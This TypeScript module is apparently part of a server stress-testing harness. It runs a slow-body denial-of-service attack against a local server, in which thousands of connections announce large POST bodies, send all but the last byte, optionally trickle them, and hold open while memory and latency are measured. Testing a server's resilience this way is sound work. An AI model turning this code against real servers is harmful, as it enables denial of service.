/** Attack by clients that send a body without its last byte, and then wait. */
import { type Socket, connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Waits, meanwhile } from './bystanders.ts';
import { type Attacked, peakOfAll } from './program.ts';

export interface BodiesResult extends Waits {
  readonly peakMegabytes: number;
  /** Number of bytes that were sent, and number of clients whose connection was closed. */
  readonly sent: number;
  readonly closed: number;
}

export interface Bodies {
  readonly connections: number;
  /** The announced length of each body, in bytes. */
  readonly bytes: number;
  /** True if a body is sent in parts during most of the attack. */
  readonly trickles: boolean;
  readonly seconds: number;
}

/** The bodies: from as many small bodies as connections may be open, to a few bodies of the maximum size. */
export const BODIES: readonly Pick<Bodies, 'connections' | 'bytes' | 'trickles'>[] = [
  { connections: 250, bytes: 2_097_152, trickles: false },
  { connections: 500, bytes: 6_291_456, trickles: false },
  { connections: 1_000, bytes: 2_000_000, trickles: false },
  { connections: 1_000, bytes: 2_000_000, trickles: true },
  { connections: 4_000, bytes: 65_536, trickles: true },
  { connections: 9_000, bytes: 16_384, trickles: false },
  { connections: 9_000, bytes: 16_384, trickles: true },
  { connections: 9_000, bytes: 1_000_000, trickles: false },
];

/** Maximum size of a body for the operation `/mask`, in bytes. Larger bodies are sent to another operation. */
const SMALL = 16_384;
const PARTS = 20;
/** Number of source addresses. Several are needed, because one address has too few ports for the connections of several attacks. */
const SOURCES = 4;
const AT_ONCE = 250;

export async function bodies(attacked: Attacked, { connections, bytes, trickles, seconds }: Bodies): Promise<BodiesResult> {
  const head = `POST /api/v1/${bytes > SMALL ? 'extract' : 'validate'} HTTP/1.1\r\nHost: a\r\nContent-Length: ${bytes}\r\n\r\n`;
  const body = Buffer.alloc(bytes - 1, 'a');
  const counts = { sent: 0, closed: 0 };
  const part = Math.ceil(body.length / (trickles ? PARTS : 1));
  let isOver = false;
  const send = (socket: Socket, from: number): void => {
    if (isOver || socket.destroyed || from >= body.length) return;
    const piece = body.subarray(from, from + part);
    socket.write(piece, (error) => {
      if (error) return;
      counts.sent += piece.length;
      if (trickles) setTimeout(() => send(socket, from + part), (seconds * 800) / PARTS);
    });
  };
  const begin = (i: number): Socket => {
    const socket = connect({ port: attacked.port, host: '127.0.0.1', localAddress: `127.0.0.${2 + (i % SOURCES)}` });
    return socket
      .on('connect', () => {
        socket.write(head);
        send(socket, 0);
      })
      .on('error', () => undefined)
      .on('close', () => (counts.closed += isOver ? 0 : 1))
      .resume();
  };
  const peak = peakOfAll(attacked);
  const waits = await meanwhile(attacked, async () => {
    const end = performance.now() + seconds * 1_000;
    const sockets: Socket[] = [];
    while (sockets.length < connections && performance.now() < end) {
      for (let i = 0; i < AT_ONCE && sockets.length < connections; i++) sockets.push(begin(sockets.length));
      await sleep(10);
    }
    await sleep(Math.max(end - performance.now(), 0));
    isOver = true;
    for (const socket of sockets) socket.destroy();
    await sleep(1_000);
  });
  return { ...waits, ...counts, peakMegabytes: peak() };
}
